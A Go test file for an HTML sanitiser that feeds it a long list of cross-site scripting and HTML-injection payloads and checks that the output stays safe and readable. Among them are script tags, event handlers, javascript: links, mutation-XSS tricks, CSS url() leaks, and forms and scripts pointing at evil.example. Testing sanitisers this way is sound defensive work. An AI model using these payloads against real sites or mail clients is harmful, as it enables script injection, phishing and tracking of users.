package safehtml

import (
	"strings"
	"testing"
)

// attacks are what mails have tried, and what sanitisers have fallen for. Each has the word "told" as text that must
// still be read.
//
//nolint:misspell // as HTML and CSS spell it
var attacks = []string{
	// scripts
	`told<script>alert(1)</script>`, `told<ScRiPt src=//evil.example/x.js></sCrIpT>`, `told<script/x>alert(1)</script/y>`,
	`told<<script>alert(1);//<</script>`, `told<scr<script>ipt>alert(1)</scr</script>ipt>`, "told<script\x00>alert(1)</script>",
	`told<script>alert(1)`, `told</script><script>`, `told<script><!--<script></script>--></script>`,
	// handlers
	`<img src=x onerror=alert(1)>told`, `<img/src=x/onerror=alert(1)>told`, "<img\tsrc=x\nonerror\r=\x0calert(1)>told",
	`<body onload=alert(1)>told`, `<div onmouseover="alert(1)" onclick='x' ONFOCUS=x tabindex=1 autofocus>told</div>`,
	`<details open ontoggle=alert(1)><summary>told</summary></details>`, `<a href="https://ok.example" onclick=alert(1)>told</a>`,
	`<img src="x" alt="a" onerror="alert(1)" / >told`, `<b style=x:expression(alert(1))>told</b>`, `<p onfocusin=x() contenteditable>told</p>`,
	`<marquee onstart=alert(1)>told</marquee>`, `<input autofocus onfocus=alert(1)>told`, `<video src=x onerror=alert(1)>told</video>`,
	// addresses
	`<a href="javascript:alert(1)">told</a>`, `<a href="JaVaScRiPt:alert(1)">told</a>`, `<a href="java&#x0A;script:alert(1)">told</a>`,
	"<a href=\"java\tscript:alert(1)\">told</a>", "<a href=\" \x01javascript:alert(1)\">told</a>", `<a href="&#106;avascript&colon;alert(1)">told</a>`,
	`<a href="vbscript:msgbox(1)">told</a>`, `<a href="data:text/html,<script>alert(1)</script>">told</a>`, `<a href="file:///etc/passwd">told</a>`,
	`<a href="//evil.example/">told</a>`, `<a href="/settings">told</a>`, `<a href="#top">told</a>`, `<a href="wails://wails/run">told</a>`,
	`<a href="https:\\evil.example">told</a>`, `<a href="https:evil.example">told</a>`, `<a href="http://user:pass@evil.example/">told</a>`,
	`<a href="https://ok.example/" href="javascript:alert(1)">told</a>`, `<a href="blob:https://x/1">told</a>`, `<a href="ms-word:ofe|u|http://x">told</a>`,
	`<a href="search-ms:query=x&crumb=location:\\x">told</a>`, `<a href="https://">told</a>`, `<a href="mailto:">told</a>`, `<a ping="https://evil.example/" href="https://ok.example">told</a>`,
	`<a href="https://ok.example" target=_top rel=opener>told</a>`, `<a href="https://[::1">told</a>`, `<a href="https://x/%zz">told</a>`,
	`<area href="javascript:alert(1)">told`, `<map name=m><area shape=default href=//evil.example></map>told<img usemap=#m src=x>`,
	// pictures
	`<img src="javascript:alert(1)">told`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">told`, `<img src="data:text/html;base64,PHNjcmlwdD4=">told`,
	`<img srcset="https://evil.example/a 1x" src=y>told`, `<img lowsrc=https://evil.example dynsrc=https://evil.example>told`,
	`<img src="//evil.example/p.gif">told`, `<img src="http://192.168.0.1/reboot">told`, `<img src="https://localhost/x">told`,
	`<img src="https://2130706433/x">told`, `<img src="https://0x7f.1/x">told`, `<img src="https://[::1]/x">told`, `<img src="file://host/share">told`,
	`<img src="cid:logo@mail">told`, `<img src="cid:nobody">told`, `<image src="https://ok.example/a.png">told`, `<img src="https://ok.example:8443/a.png">told`,
	`<img src="data:image/png;base64,` + pixel + `">told`, `<img src="data:image/png;base64,!!!!">told`, `<picture><source srcset=https://evil.example><img src=x></picture>told`,
	`<table background="https://evil.example/b.png"><td background=javascript:alert(1)>told</table>`, `<body background=https://evil.example>told`,
	`<video poster=https://evil.example/p><source src=https://evil.example/v>told</video>`, `<audio autoplay src=https://evil.example></audio>told`,
	// other documents
	`told<iframe src=https://evil.example></iframe>`, `told<iframe srcdoc="<script>alert(1)</script>">`, `<object data=x.swf><embed src=x.swf>told</object>`,
	`<applet code=X>told</applet>`, `<frameset><frame src=javascript:alert(1)></frameset>told`, `<base href="https://evil.example/">told`,
	`<link rel=stylesheet href=https://evil.example/x.css>told`, `<meta http-equiv=refresh content="0;url=https://evil.example">told`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">told`, `<link rel=prefetch href=//evil.example><link rel="dns-prefetch" href="//evil.example">told`,
	`<portal src=https://evil.example>told</portal>`, `<fencedframe>told</fencedframe>`,
	// forms
	`<form action=https://evil.example><input name=password type=password><button formaction=javascript:alert(1)>told</button></form>`,
	`<isindex action=javascript:alert(1) type=image>told`, `told<textarea><script>alert(1)</script></textarea>`, `told<select><option onclick=x>a</select>`,
	`<input type=image src=https://evil.example/x.png>told`, `<keygen autofocus onfocus=alert(1)>told`, `<label for=x>told</label>`,
	// drawings and formulas
	`told<svg onload=alert(1)>`, `told<svg><script>alert(1)</script></svg>`, `told<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`told<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`, `told<svg><animate onbegin=alert(1) attributeName=x></svg>`,
	`told<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`told<math href="javascript:alert(1)">x</math>`, `told<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`told<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`told<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>`, `told<svg><style><img src=x onerror=alert(1)></style></svg>`,
	// what is read differently the second time
	`told<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `told<style><img title="</style><img src=x onerror=alert(1)>"></style>`,
	`told<!--><img src=x onerror=alert(1)>-->`, `told<!-- --!><img src=x onerror=alert(1)> -->`, `told<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`told<?xml version="1.0"?><img src=x onerror=alert(1)>`, `told<xmp><img src=x onerror=alert(1)></xmp>`, `told<template><img src=x onerror=alert(1)></template>`,
	`told<title><img src=x onerror=alert(1)></title>`, `told<noembed><img src=x onerror=alert(1)></noembed>`, `told<plaintext><img src=x onerror=alert(1)>`,
	"<img src=x alt=\"`onerror=alert(1)//\">told", `<a title="&quot;><img src=x onerror=alert(1)>">told</a>`, `<p/onclick=alert(1)>told`, `told<a/b/c="x`, `told<a href="`,
	`<table><a href="https://ok.example">told<tr><td><a href=https://two.example>x</table>`, `<table><img src=x onerror=alert(1)><tr>told`,
	`<p><b><div>told<p></b><i><table></i><td></p>`, `<a><div><a>told</a></div></a>`, `<b><b><b><b><b>told</b></i></b>`, `<li><div><li>told<ul><li></div>`,
	`<h1>a<h2>told</h1></h2>`, `<table><caption><table><caption>told</table>`, `<table><col><colgroup><col><td>told`, "<pre>\n\n\ntold</pre>", `<pre><p>told</pre>`,
	`<dl><dt>told<dd>x<dt>y</dl>`, `</p></td></table></body></html>told`, `<details class=bl-quote><summary>told</summary></details>`, `<font color=red><p>told<p>x</font>y`,
	"told\x00<b\x00>x", "told\xff\xfe<i>", "\ufefftold", `<p>told<hr><p><table><p></table>`, `<center><center><h1><center>told`,
	// styles
	`<p style="background:url(https://evil.example/x)">told</p>`, `<p style="background:#fff url('x') no-repeat">told</p>`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">told</p>`,
	`<p style="position:absolute;z-index:99999">told</p>`, `<p style="width:expression(alert(1))">told</p>`, `<p style="-moz-binding:url(x#y)">told</p>`,
	`<p style="behavior:url(x.htc)">told</p>`, `<p style="\62 ackground:url(x)">told</p>`, `<p style="color:red;/*x*/background:u/**/rl(x)">told</p>`,
	`<p style="color:red}body{background:url(x)">told</p>`, `<p style='font-family:"</style><script>alert(1)</script>"'>told</p>`, `<p style="margin-left:-9999px;text-indent:-9999px">told</p>`,
	`<p style="width:99999999px;font-size:1e9px;line-height:calc(1px*9e9)">told</p>`, `<p style="content:url(x);cursor:url(x),auto;list-style:url(x)">told</p>`,
	`<p style="transform:scale(99);animation:x 1s;filter:blur(9px);clip-path:url(#x)">told</p>`, `<p style="background-image:image-set('x' 1x)">told</p>`, `<p style="--x:url(x);color:var(--x)">told</p>`,
	`<style>@import url(https://evil.example/x.css);p{color:red}</style>told`, `<style>@font-face{font-family:x;src:url(x)}p{color:red}</style>told`,
	`<style>p{background:url(x);color:red}</style>told`, `<style>body{display:none}html{visibility:hidden}</style>told`, `<style>*{display:none}#a{color:red}[href^="a"]{background:url(x)}</style>told`,
	`<style>p{color:red}</style><style></style><style><!-- p{color:blue} --></style>told`, `<style>@media screen{@import 'x';p{color:red}}@media (max-width:600px){p{background:url(x)}td{width:100%!important}}</style>told`,
	`<style>.bl-elsewhere::after{display:none}.bl-elsewhere{display:none}details{display:none}summary{color:white}</style>told`, `<style>p::before{content:"x"}p:hover{color:red}</style>told`,
	`<style>p{color:red;}}} body{background:url(x)} {{{ a{}</style>told`, `<style>p{a:b;c{d:e}}@charset "x";@namespace url(x);q{color:red}</style>told`, `<style>\70{color:red}p{col\6fr:red}</style>told`,
	`<style>p{font-family:"\3c/style\3e <script>"}</style>told`, `<style type=text/css media=all>P.MsoNormal, LI.x > A:link{MARGIN:0CM;Color:#000}</style>told`, `told<style>p{color:red`,
	`<p class="bl-elsewhere" id=location name=cookie title=told>told</p>`, `<img name=body id=forms src=x>told`, `<a id=__proto__ name=constructor>told</a>`,
	`<td width=999999999 colspan=99999999 rowspan=99999999>told</td>`, `<table border=9999 cellpadding=99999999 width=100000%><td colspan=9999999>told</table>`, `<font size=+999 color="expression(x)" face="x;y:url(z)">told</font>`,
	`<bdo dir=rtl>told</bdo>`, `<o:p>told</o:p>`, `<p xml:lang="en" xmlns:x="y" data-x="z" aria-hidden=true is=x slot=y part=z>told</p>`, `<custom-element onconnected=x>told</custom-element>`,
}

func TestAttacks(t *testing.T) {
	if len(attacks) < 60 {
		t.Errorf("%d attacks", len(attacks))
	}
	for _, attack := range attacks {
		wantSafe(t, attack)
		var text strings.Builder
		c := newBuilder(clean("", Options{}))
		c.read(attack)
		read(c.root, &text, 10_000)
		if !strings.Contains(text.String(), "told") {
			t.Errorf("its text is lost: %q", attack)
		}
	}
	all := strings.Join(attacks, "\n")
	wantSafe(t, all)
	for _, a := range attacks {
		wantSafe(t, "<table><tr><td>"+a+"<p><b>"+a)
	}
}

func FuzzDocument(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if len(source) > 20_000 {
			return
		}
		wantSafe(t, source)
	})
}
